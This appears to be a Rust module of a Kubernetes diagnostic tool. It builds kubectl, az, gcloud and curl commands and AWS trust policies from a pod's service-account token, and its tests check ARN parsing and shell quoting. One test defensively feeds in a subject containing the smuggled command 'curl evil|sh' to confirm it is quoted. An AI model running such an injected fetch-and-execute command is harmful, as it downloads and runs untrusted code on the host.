//! Remedies computed from the pod's own token: policies and commands that can be pasted as they are.

use serde_json::json;

use super::Remedy;
use super::observation::Observation;
use crate::claims::Claims;

/// A command about the pod's namespace.
fn kubectl(observation: &Observation<'_>, words: &[&str]) -> Remedy {
    let (namespace, _) = observation.account_words();
    let begin = ["kubectl", "--namespace", &namespace];
    Remedy::command(&[&begin, words].concat())
}

/// Pods keep what they were created with.
pub(super) fn restart(observation: &Observation<'_>) -> Remedy {
    kubectl(
        observation,
        &["rollout", "restart", "deployment", "DEPLOYMENT"],
    )
}

/// Changes the pod's template where no chart of ours made it.
pub(super) fn patch(observation: &Observation<'_>, json: &str) -> Remedy {
    kubectl(
        observation,
        &["patch", "deployment", "DEPLOYMENT", "--patch", json],
    )
}

/// Variables are a matter of the pod's template: what a shell in the pod unsets is set in the next one.
pub(super) fn unset(observation: &Observation<'_>, variables: &[&str]) -> [Remedy; 2] {
    let removed: Vec<String> = variables.iter().map(|name| format!("{name}-")).collect();
    let mut words = vec!["set", "env", "deployment", "DEPLOYMENT"];
    words.extend(removed.iter().map(String::as_str));
    [
        // A list is given as a whole: the others have to be kept.
        Remedy::helm(format!(
            "# Keep the others, and leave out {}.\nextraEnv: []\n",
            variables.join(", ")
        )),
        kubectl(observation, &words),
    ]
}

/// Shows where the token's volume is mounted.
pub(super) fn mounts(observation: &Observation<'_>) -> Remedy {
    kubectl(
        observation,
        &[
            "get",
            "pod",
            &observation.pod_name(),
            "--output",
            "jsonpath={.spec.containers[*].volumeMounts}",
        ],
    )
}

/// Shows what may close a way. The chart's own policy would open it, and close all that it does not know.
pub(super) fn policies(observation: &Observation<'_>) -> Remedy {
    kubectl(observation, &["get", "networkpolicy", "--output", "yaml"])
}

/// Sets the clock of the node that the pod runs on.
pub(super) fn set_clock() -> Remedy {
    Remedy::command(&[
        "kubectl",
        "debug",
        "node/NODE",
        "--stdin",
        "--tty",
        "--profile=sysadmin",
        "--image=busybox",
        "--",
        "chroot",
        "/host",
        "chronyc",
        "makestep",
    ])
}

/// A command that annotates the pod's ServiceAccount.
pub(super) fn annotate(observation: &Observation<'_>, annotation: &str) -> Remedy {
    let (_, account) = observation.account_words();
    kubectl(
        observation,
        &["annotate", "serviceaccount", &account, annotation],
    )
}

/// A value in YAML: plain where it is certainly read as the same text.
pub(super) fn yaml(text: &str) -> String {
    const WORDS: [&str; 9] = ["true", "false", "yes", "no", "on", "off", "null", "y", "n"];
    let plain = text.starts_with(|c: char| c.is_ascii_alphabetic())
        && !text.ends_with(':')
        && text
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || b"_-./:@=+,".contains(&byte))
        && !WORDS.iter().any(|word| text.eq_ignore_ascii_case(word));
    if plain {
        text.to_owned()
    } else {
        // Every text of JSON is one of YAML.
        serde_json::Value::from(text).to_string()
    }
}

/// What a role's ARN is made of.
pub(super) struct Role<'a> {
    pub(super) partition: &'a str,
    pub(super) account: &'a str,
    /// With its path.
    pub(super) name: &'a str,
}

/// The role of an ARN such as `arn:aws:iam::123456789012:role/team/app`.
pub(super) fn role(arn: &str) -> Option<Role<'_>> {
    let mut parts = arn.splitn(6, ':');
    let (arn, partition, service) = (parts.next()?, parts.next()?, parts.next()?);
    let (region, account, resource) = (parts.next()?, parts.next()?, parts.next()?);
    let name = resource.strip_prefix("role/")?;
    let good_partition = partition.starts_with("aws")
        && partition
            .bytes()
            .all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-');
    let good_account = account.len() == 12 && account.bytes().all(|byte| byte.is_ascii_digit());
    let last = name.rsplit('/').next()?;
    // A path may have every character that can be seen.
    let good_name = (1..=64).contains(&last.len())
        && name.len() <= 576
        && name.bytes().all(|byte| byte.is_ascii_graphic())
        && last
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || b"_+=,.@-".contains(&byte));
    let good = arn == "arn"
        && service == "iam"
        && region.is_empty()
        && good_partition
        && good_account
        && good_name;
    good.then_some(Role {
        partition,
        account,
        name,
    })
}

impl Role<'_> {
    /// The last part of the name, as sessions and commands know it.
    pub(super) fn last(&self) -> &str {
        self.name.rsplit('/').next().unwrap_or(self.name)
    }
}

/// The trust policy that lets this token assume the role.
pub(super) fn trust_policy(role: &Role<'_>, claims: &Claims, audience: &str) -> String {
    let issuer = issuer_path(&claims.issuer);
    let policy = json!({
        "Version": "2012-10-17",
        "Statement": [{
            "Effect": "Allow",
            "Principal": {"Federated": format!("arn:{}:iam::{}:oidc-provider/{issuer}", role.partition, role.account)},
            "Action": "sts:AssumeRoleWithWebIdentity",
            "Condition": {"StringEquals": {
                format!("{issuer}:sub"): claims.subject,
                format!("{issuer}:aud"): audience,
            }},
        }],
    });
    pretty(&policy)
}

/// The trust policy for EKS Pod Identity.
pub(super) fn pod_identity_policy() -> String {
    pretty(&json!({
        "Version": "2012-10-17",
        "Statement": [{
            "Effect": "Allow",
            "Principal": {"Service": "pods.eks.amazonaws.com"},
            "Action": ["sts:AssumeRole", "sts:TagSession"],
        }],
    }))
}

fn pretty(value: &serde_json::Value) -> String {
    serde_json::to_string_pretty(value).unwrap_or_default()
}

/// The issuer as IAM names it: without its scheme.
pub(super) fn issuer_path(issuer: &str) -> &str {
    issuer.strip_prefix("https://").unwrap_or(issuer)
}

/// The command that federates an identity of Azure with this token.
pub(super) fn federated_credential(claims: &Claims) -> Remedy {
    let audience = claims.audiences.first();
    Remedy::command(&[
        "az",
        "identity",
        "federated-credential",
        "create",
        "--name",
        "pyproc",
        "--identity-name",
        "IDENTITY",
        "--resource-group",
        "GROUP",
        "--issuer",
        &claims.issuer,
        "--subject",
        &claims.subject,
        "--audiences",
        audience.map_or("api://AzureADTokenExchange", String::as_str),
    ])
}

/// The command that lets a member act as a Google service account.
pub(super) fn workload_identity_user(service_account: &str, member: &str) -> Remedy {
    Remedy::command(&[
        "gcloud",
        "iam",
        "service-accounts",
        "add-iam-policy-binding",
        service_account,
        "--role",
        "roles/iam.workloadIdentityUser",
        "--member",
        member,
    ])
}

/// Reads the issuer's discovery document, as clouds do before they verify a token.
pub(super) fn discovery(issuer: &str) -> Remedy {
    let issuer = issuer.trim_end_matches('/');
    Remedy::command(&[
        "curl",
        "--fail",
        &format!("{issuer}/.well-known/openid-configuration"),
    ])
}

/// A word for a POSIX shell.
pub(super) fn quoted(word: &str) -> String {
    // A word that begins with an equals sign or a tilde is one that some shells expand.
    let plain = word.starts_with(|c: char| c.is_ascii_alphanumeric() || "-/.{".contains(c))
        && !word.is_empty()
        && word
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || b"_-./:@=,+%".contains(&byte));
    if plain {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roles_of_all_partitions_are_told_from_what_is_none() {
        for good in [
            "arn:aws:iam::123456789012:role/app",
            "arn:aws-cn:iam::123456789012:role/team/app",
            "arn:aws-iso-b:iam::123456789012:role/a+b=c,d.e@f-g",
            "arn:aws:iam::123456789012:role/team:one/$x/app",
        ] {
            assert!(role(good).is_some(), "{good}");
        }
        for bad in [
            "app",
            "arn:aws:iam::12345678901:role/app",
            "arn:aws:iam::123456789012:user/app",
            "arn:aws:sts::123456789012:role/app",
            "arn:aws:iam::123456789012:role/",
            "arn:aws:iam::123456789012:role/a b",
        ] {
            assert!(role(bad).is_none(), "{bad}");
        }
    }

    #[test]
    fn the_trust_policy_is_the_one_of_the_token() {
        let claims = Claims {
            issuer: "https://oidc.eks.eu-west-1.amazonaws.com/id/AB".into(),
            subject: "system:serviceaccount:shop:pyproc".into(),
            ..Claims::default()
        };
        let role = role("arn:aws-cn:iam::123456789012:role/team/app").unwrap();
        let policy: serde_json::Value =
            serde_json::from_str(&trust_policy(&role, &claims, "sts.amazonaws.com")).unwrap();
        let statement = &policy["Statement"][0];
        assert_eq!(
            statement["Principal"]["Federated"],
            "arn:aws-cn:iam::123456789012:oidc-provider/oidc.eks.eu-west-1.amazonaws.com/id/AB"
        );
        let equals = &statement["Condition"]["StringEquals"];
        assert_eq!(
            equals["oidc.eks.eu-west-1.amazonaws.com/id/AB:sub"],
            "system:serviceaccount:shop:pyproc"
        );
        assert_eq!(
            equals["oidc.eks.eu-west-1.amazonaws.com/id/AB:aud"],
            "sts.amazonaws.com"
        );
    }

    #[test]
    fn a_federated_credential_has_the_tokens_own_audience() {
        let claims = Claims {
            issuer: "https://issuer".into(),
            subject: "system:serviceaccount:x;curl evil|sh:y".into(),
            audiences: vec!["api://AzureADTokenExchangeUSGov".into()],
            ..Claims::default()
        };
        let text = federated_credential(&claims).text;
        assert!(
            text.ends_with(" --audiences api://AzureADTokenExchangeUSGov"),
            "{text}"
        );
        assert!(
            text.contains(" --subject 'system:serviceaccount:x;curl evil|sh:y' "),
            "{text}"
        );
    }

    #[test]
    fn values_survive_yaml() {
        for text in ["arn:aws:iam::1:role/x", "a@b.c", "https://x/"] {
            assert_eq!(yaml(text), text);
        }
        assert_eq!(yaml("11111111-2222"), "\"11111111-2222\"");
        assert_eq!(yaml("a: b\nc"), "\"a: b\\nc\"");
        assert_eq!(
            (yaml("yes").as_str(), yaml("").as_str()),
            ("\"yes\"", "\"\"")
        );
    }

    #[test]
    fn words_survive_the_shell() {
        assert_eq!(quoted("a:b/c"), "a:b/c");
        assert_eq!(quoted("it's $HOME"), r"'it'\''s $HOME'");
    }
}
